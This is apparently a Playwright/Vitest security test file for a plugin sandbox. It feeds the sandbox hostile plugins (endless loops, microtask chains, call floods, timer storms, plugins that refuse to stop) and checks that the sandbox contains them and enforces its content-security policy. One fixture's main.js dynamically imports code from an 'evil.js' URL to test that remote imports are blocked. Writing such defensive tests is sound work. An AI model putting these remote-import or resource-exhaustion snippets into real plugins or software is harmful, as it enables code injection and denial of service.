import type { Dialog } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { App, type Files } from '../kit/app.ts';
import { attacker, forged, slipIn } from './attacker.ts';
import { activates, hostile, registers, victim } from './hostile.ts';
import { attackTheWall, type Driven } from './wall.ts';

/** Hostile plugins in the real workbench in Chromium; test/firefox has the wall in Firefox. */

/** As an attacker would first try it: refused when it is found. */
const imports: Files = {
  'plugin.json': { name: 'Imports', id: 'test.imports', version: '1.0.0', type: 'processing', main: './main.js' },
  'main.js':
    "import { commands } from 'irintai';\nexport const activate = () => import('http://127.0.0.1:1/evil.js');\n",
};

let app: App;
let driven: Driven;

beforeAll(async () => {
  app = await App.start({ plugins: { attacker, victim, imports, ...hostilePlugins() } });
  await app.page.addInitScript(slipIn, forged);
  await app.open();
  driven = drive(app);
});

afterAll(() => app.close());

function drive({ page }: App): Driven {
  const dialogs: string[] = [];
  const note = (dialog: Dialog): void => {
    dialogs.push(dialog.type());
    void dialog.dismiss();
  };
  page.on('dialog', note);
  const call = (run: (...args: never[]) => unknown, args: readonly unknown[]): string =>
    `(${run.toString()})(...${JSON.stringify(args)})`;
  return {
    dialogs,
    evaluate: (run, ...args) => page.evaluate(call(run, args)),
    inCell: (run, ...args) => {
      const frame = page.frames().find((one) => one.url().endsWith('/cell.html'));
      if (!frame) throw new Error('There is no cell.');
      return frame.evaluate(call(run, args));
    },
    outside: async (url, run, ...args) => {
      const other = await page.context().newPage();
      other.on('dialog', note);
      await other.goto(url);
      try {
        return await other.evaluate(call(run, args));
      } finally {
        await other.close();
      }
    },
  };
}

function run(id: string, ...args: unknown[]): Promise<unknown> {
  return app.page.evaluate(([command, values]) => window.irintai.commands.execute(command, ...values), [
    id,
    args,
  ] as const);
}

function state(id: string): Promise<string | undefined> {
  return app.page.evaluate((plugin) => window.irintai.plugins.list().find((one) => one.id === plugin)?.state, id);
}

attackTheWall(() => driven);

test('the policy of a cell lets in its own script and blobs, and nothing else', async () => {
  const response = await app.page.request.get(`${app.url}cell.html`);
  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/sandbox allow-scripts(;|$)/);
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/script-src 'sha256-[^']+' blob:(;|$)/);
  expect(policy).not.toMatch(/connect-src|unsafe-inline|unsafe-eval|allow-same-origin/);
});

test('A7: code that imports anything but the API is refused before it could run', async () => {
  const plugin = await app.page.evaluate(() => window.irintai.plugins.list().find(({ id }) => id === 'test.imports'));
  expect(plugin?.state).toBe('blocked');
  expect(plugin?.problems).toEqual([expect.objectContaining({ file: 'main.js', line: 2, severity: 'error' })]);
});

describe('using up what is shared', () => {
  test.each([
    ['E93', 'a loop when it is loaded', 'test.loops-on-load', 'failed'],
    ['E94', 'a loop in activate', 'test.loops-in-activate', 'failed'],
    ['E96', 'an endless chain of microtasks', 'test.microtasks', 'failed'],
    ['E106', 'an error in activate', 'test.throws', 'failed'],
  ])('%s: %s is a state with a reason, and the neighbour runs', async (_, __, id, expected) => {
    const attack = run(`${id}.run`).catch((error: unknown) => String(error));
    expect(await run('victim.say')).toBe('well');
    expect(await attack).toMatch(/could not start/);
    expect(await state(id)).toBe(expected);
  });

  test('E95: a loop in a command is named, and the plugin can be stopped and woken again', async () => {
    const looping = run('test.loops.run').catch((error: unknown) => String(error));
    await expect.poll(() => state('test.loops'), { timeout: 15_000 }).toBe('unresponsive');
    expect(await run('victim.say')).toBe('well');
    await app.page.evaluate(() => window.irintai.plugins.stop('test.loops'));
    expect(await looping).toMatch(/stopped/);
    expect(await run('test.loops.ok')).toBe('ok');
  });

  test('D74: a flood of calls ends the plugin or is answered, and the page never stands still', async () => {
    const flooding = run('test.floods.run').catch((error: unknown) => String(error));
    const gap = await app.page.evaluate(async () => {
      let longest = 0;
      let last = performance.now();
      const end = last + 2_000;
      while (last < end) {
        await new Promise((resolve) => setTimeout(resolve, 4));
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
      }
      return longest;
    });
    expect(gap).toBeLessThan(2_000); // the figure is the bench's; here: it did not freeze
    expect(await run('victim.say')).toBe('well');
    await app.page.evaluate(() => window.irintai.plugins.stop('test.floods'));
    await flooding;
  });

  test('E98: a storm of timers ends at the thousandth, and harms nobody else', async () => {
    expect(await run('test.timers.run')).toEqual([
      1000,
      'RangeError: There are 1000 timers already; clear some first.',
    ]);
    expect(await run('victim.say')).toBe('well');
    expect(await run('test.timers.again')).toBe(1000);
    await app.page.evaluate(() => window.irintai.plugins.stop('test.timers'));
  });

  test('E109, E110: a plugin that will not go is gone after its second', async () => {
    expect(await run('test.stays.run')).toBe('here');
    await app.page.evaluate(() => window.irintai.plugins.stop('test.stays'));
    expect(await state('test.stays')).toBe('idle');
    expect(await app.page.locator('iframe').count()).toBeLessThanOrEqual(await runningCells());
  });

  test('D73: progress without end is coalesced', async () => {
    expect(await run('test.progress.run')).toBe('done');
    expect(await run('victim.say')).toBe('well');
  });
});

/** Active plugins and the spare. */
function runningCells(): Promise<number> {
  return app.page.evaluate(
    () =>
      window.irintai.plugins
        .list()
        .filter(({ state: one }) => !['idle', 'failed', 'crashed', 'disabled', 'blocked'].includes(one)).length + 1,
  );
}

function hostilePlugins(): Record<string, Files> {
  return Object.fromEntries([
    hostile('loops-on-load', 'for (;;);'),
    hostile('loops-in-activate', activates('for (;;);')),
    hostile('microtasks', activates('const again = () => Promise.resolve().then(again); return again();')),
    hostile('throws', activates("throw new Error('on purpose');")),
    hostile(
      'loops',
      activates(registers('test.loops.run', '() => { for (;;); }') + registers('test.loops.ok', "() => 'ok'")),
      ['run', 'ok'],
    ),
    hostile(
      'floods',
      activates(
        registers(
          'test.floods.run',
          "async () => { for (;;) { for (let i = 0; i < 500; i++) irintai.commands.executeCommand('none').catch(() => {}); await null; } }",
        ),
      ),
    ),
    hostile(
      'timers',
      `const ids = [];
let ran = 0;
async function storm(count) {
  try {
    for (let i = 0; i < count; i++) ids.push(i % 2 ? setInterval(() => ran++, 0) : setTimeout(() => {}, 1e6));
  } catch (error) { return [ids.length, String(error)]; }
  return ids.length;
}
async function again() {
  while (ran === 0) await new Promise((resolve) => queueMicrotask(resolve)).then(() => new Promise((resolve) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = resolve; port2.postMessage(0); }));
  for (const id of ids.splice(0)) (id % 2 ? clearTimeout : clearInterval)(id);
  await new Promise((resolve) => setTimeout(resolve, 1)); // one that ran gives its place back
  return storm(1000);
}
${activates(registers('test.timers.run', '() => storm(50000)') + registers('test.timers.again', 'again'))}`,
      ['run', 'again'],
    ),
    hostile(
      'stays',
      `${activates(registers('test.stays.run', "() => 'here'"))}\nexport function deactivate() { setInterval(() => {}, 1); return new Promise(() => {}); }`,
    ),
    hostile(
      'progress',
      activates(
        registers(
          'test.progress.run',
          "() => irintai.window.withProgress({ location: 'window', title: 'x' }, async (report) => { for (let i = 0; i < 100000; i++) (report.report ?? report)({ done: i, total: 100000 }); return 'done'; })",
        ),
      ),
    ),
  ]);
}
